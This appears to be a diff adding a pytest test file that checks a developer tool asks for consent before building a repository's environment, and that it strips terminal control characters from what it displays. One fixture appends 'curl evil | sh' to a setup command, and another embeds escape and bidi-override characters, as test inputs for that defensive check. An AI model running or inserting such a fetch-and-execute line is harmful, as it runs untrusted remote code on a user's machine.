@@ -1,0 +1,119 @@
+"""No environment of a repository is built or used without the person's consent to its content."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from ctui.client.environments import EnvironmentWish, ensure_environment
+from ctui.config import Config, load_config
+from ctui.environments.consent import consent_text
+from ctui.environments.lookup import plan_of
+from ctui.environments.records import Environment, Records
+from ctui.errors import ConsentRequired
+from ctui.git.repository import open_repository
+from ctui.paths import Paths
+from ctui.sandbox.docker.image import image_tag
+from tests.cli.commands import ctui, refused
+from tests.environments.test_choice import put
+
+TABLE = {".ctui.toml": '[environment]\nsetup = "npm ci"\n'}
+
+
+async def ensured(paths: Paths, repository: Path, wish: EnvironmentWish) -> Environment | None:
+    return await ensure_environment(paths, open_repository(repository), "HEAD", Config(), wish)
+
+
+def as_built(paths: Paths, repository: Path) -> Environment:
+    """Write the record of an environment as if it had been built."""
+    plan = plan_of(paths, open_repository(repository), "HEAD")
+    assert plan is not None
+    made = Environment(
+        id=plan.id,
+        repository=str(repository / ".git"),
+        source="repository",
+        file=".ctui.toml",
+        commit=plan.files.commit,
+        state="ready",
+        made_with=image_tag(Config().image),
+    )
+    Records(paths).save(made)
+    return made
+
+
+async def test_without_a_definition_nothing_is_asked(paths: Paths, repository: Path) -> None:
+    assert await ensured(paths, repository, EnvironmentWish()) is None
+
+
+async def test_it_is_asked_once_and_again_for_another_content(
+    paths: Paths, repository: Path
+) -> None:
+    """Consent is never inherited, also where a branch brings the change; a lock file needs none."""
+    put(repository, TABLE)
+    as_built(paths, repository)
+    with pytest.raises(ConsentRequired, match=r"needs your consent"):
+        await ensured(paths, repository, EnvironmentWish())
+    shown: list[str] = []
+
+    def say(answer: bool) -> EnvironmentWish:
+        return EnvironmentWish(ask=lambda text: shown.append(text) or answer)  # type: ignore[func-returns-value]
+
+    with pytest.raises(ConsentRequired, match="without your consent"):
+        await ensured(paths, repository, say(False))
+    assert await ensured(paths, repository, say(True)) is not None
+    assert "runs once: npm ci" in shown[-1]
+    assert await ensured(paths, repository, EnvironmentWish()) is not None
+    put(repository, {".ctui.toml": '[environment]\nsetup = "npm ci; curl evil | sh"\n'})
+    with pytest.raises(ConsentRequired, match="changed, and needs"):
+        await ensured(paths, repository, EnvironmentWish())
+    with pytest.raises(ConsentRequired):
+        await ensured(paths, repository, say(False))
+    assert shown[-1].startswith("It has changed")
+    put(repository, {**TABLE, "package-lock.json": "{}\n"})
+    as_built(paths, repository)
+    assert await ensured(paths, repository, EnvironmentWish()) is not None
+
+
+def test_what_is_shown_has_nothing_that_a_terminal_acts_on(paths: Paths, repository: Path) -> None:
+    text = '[environment]\nsetup = "echo \\u001b[2J\\r; \\u202e true"\n'
+    put(repository, {".ctui.toml": text})
+    plan = plan_of(paths, open_repository(repository), "HEAD")
+    assert plan is not None
+    said = consent_text(plan)
+    assert r"echo \x1b[2J\r; \u202e true" in said  # and hides nothing
+    assert "\x1b" not in said
+    assert "\r" not in said
+    assert "\u202e" not in said
+
+
+def test_exit_code_3_names_the_command_that_consents(repository: Path) -> None:
+    """Interfaces: without a terminal exit 3; the line names the command."""
+    put(repository, TABLE)
+    assert "ctui env build --yes" in refused(repository, "env", "build", code=3)
+    shown = json.loads(ctui(repository, "env", "show", "--json").stdout)
+    assert (shown["state"], shown["consent"], shown["source"]) == ("none", "needed", "repository")
+    assert [one["key"] for one in shown["keys"]] == ["environment.setup"]
+    assert set(shown["keys"][0]) == {"key", "file", "status", "reason"}
+
+
+def test_a_repository_without_an_environment_shows_the_default(repository: Path) -> None:
+    shown = json.loads(ctui(repository, "env", "show", "--json").stdout)
+    assert shown == {
+        "id": "",
+        "source": "default",
+        "file": "",
+        "state": "none",
+        "keys": [],
+        "consent": "not needed",
+        "inputs": [],
+    }
+
+
+def test_an_environment_is_no_setting_of_the_repository(paths: Paths, repository: Path) -> None:
+    """The one exception to the rule that a repository's file can only narrow."""
+    text = '[claude]\nmodel = "haiku"\n\n[environment]\nsetup = "x"\n'
+    (repository / ".ctui.toml").write_text(text)
+    config = load_config(paths, {}, repository)
+    assert config == load_config(paths, {"CTUI_CLAUDE_MODEL": "haiku"})
